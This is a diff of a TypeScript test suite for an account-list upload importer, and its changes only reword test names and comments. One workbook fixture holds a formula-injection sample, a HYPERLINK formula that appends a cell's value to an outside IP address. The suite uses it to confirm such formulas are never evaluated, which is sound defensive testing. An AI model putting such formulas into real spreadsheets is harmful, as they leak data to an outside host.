@@ -15,7 +15,7 @@ afterAll(async () => {
   await server.stop();
 });
 
-/** Sends a file and has it checked by what its headers say. */
+/** Uploads a file and has it checked by its headers. */
 async function check(name: string, content: string | Uint8Array) {
   const read = await my.upload(name, content);
   expect(read.failure).toBeNull();
@@ -28,7 +28,7 @@ async function check(name: string, content: string | Uint8Array) {
   return { read, checked, rows, errors };
 }
 
-it('without a header, by what the user says of its columns, which is not remembered', async () => {
+it("without a header, by the user's mapping, which is not remembered", async () => {
   const read = await my.upload('list.csv', linesOf(1, 12).join(''));
   expect(read.structure).toMatchObject({ header_rows: [], findings: [{ code: 'no_header' }, { code: 'row_meaning' }] });
   const fields = [
@@ -52,13 +52,13 @@ it('without a header, by what the user says of its columns, which is not remembe
   expect(await my.upload('again.csv', linesOf(21, 32).join(''))).toMatchObject({ state: 'needs_mapping' });
 });
 
-it('with its header again in the middle and at the end', async () => {
+it('with its header repeated in the middle and at the end', async () => {
   const { checked, rows } = await check('list.csv', fileOf(line(1), line(2), header, line(3), header));
   expect(checked.summary).toMatchObject({ accounts: 3, rows: { error: 0 } });
   expect(rows.map(({ row_number: row }) => row)).toEqual([2, 3, 5]);
 });
 
-it('in Windows-1252, also where one name at the end is all that tells, and in UTF-16', async () => {
+it('in Windows-1252, also if a single name at the end proves it, and in UTF-16', async () => {
   const text = fileOf(...linesOf(1, 4000), line(4001, { first: 'José', last: 'Muñoz' }));
   const western = await check('list.csv', iconv.encode(text, 'windows-1252'));
   expect(western.read.structure?.encoding).toBe('windows-1252');
@@ -72,7 +72,7 @@ it('in Windows-1252, also where one name at the end is all that tells, and in UT
   expect(wide.rows[0]?.debtor_name).toBe('Ann Müller-Łoś');
 });
 
-it('with formulas in a workbook: the value that its program has kept, and never another', async () => {
+it('with formulas in a workbook: their stored values', async () => {
   const [head = [], first = [], second = []] = cellsOf(fileOf(line(1), line(2)));
   const kept = { xml: '<c><f>SUM(100,25.5)</f><v>125.5</v></c>' };
   const none = { xml: '<c t="str"><f>HYPERLINK("http://198.51.100.7/"&amp;I3,"x")</f></c>' };
@@ -82,7 +82,7 @@ it('with formulas in a workbook: the value that its program has kept, and never 
   expect(errors).toEqual([[2], [3, 'Amount placed is missing. Fill it in.']]);
 });
 
-it('with several forms of dates in one column: what can only be one day is read, the rest is asked', async () => {
+it('with mixed date formats in a column: unambiguous dates are read, the user chooses for the rest', async () => {
   const dates = ['3/9/26', '2026-03-14', 'March 5, 2026', '14.03.2026', '25/03/2026', '13/45/2026', '46000'];
   const { errors } = await check('list.csv', fileOf(...linesOf(1, 30), ...dates.map((date, at) => line(100 + at, { date }))));
   expect(errors.slice(30, 33)).toEqual([[32], [33], [34]]);
@@ -94,7 +94,7 @@ it('with several forms of dates in one column: what can only be one day is read,
   ]);
 });
 
-it('with amounts as 1.234,56, all of them or one among others', async () => {
+it('with amounts such as 1.234,56, all or some', async () => {
   const texts = ['1.234,56', '12,50', '1.000.000,00', '250,00', '99,9'];
   const { rows } = await check('list.csv', fileOf(...texts.map((balance, at) => line(at + 1, { balance }))));
   expect(rows.map(({ amount_cents: cents }) => cents)).toEqual([123_456, 1250, 100_000_000, 25_000, 9990]);
@@ -117,7 +117,7 @@ it('with negative, zero and missing balances: nothing is placed that nobody owes
   ]);
 });
 
-it('with a comma too many, and cut off in the middle of a row: neither is placed as it stands', async () => {
+it('with an extra comma, and truncated within a row: neither is placed as is', async () => {
   const shifted = line(3).replace('Example3', 'Smith, Jr');
   const { checked, errors } = await check('list.csv', `${fileOf(...linesOf(11, 30))}${shifted}${line(4).slice(0, 25)}`);
   expect(checked.summary?.accounts).toBe(20);
@@ -127,7 +127,7 @@ it('with a comma too many, and cut off in the middle of a row: neither is placed
   ]);
 });
 
-it('with a stray cell far below, and the last row that a sheet can have hidden', async () => {
+it('with a stray cell far below, and the last possible row hidden', async () => {
   const rows = cellsOf(fileOf(...linesOf(1, 3)));
   const stray = { xml: '</row><row r="400000"><c r="B400000" t="inlineStr"><is><t>x</t></is></c>' };
   const hidden = { xml: '</row><row r="1048576" hidden="1">' };
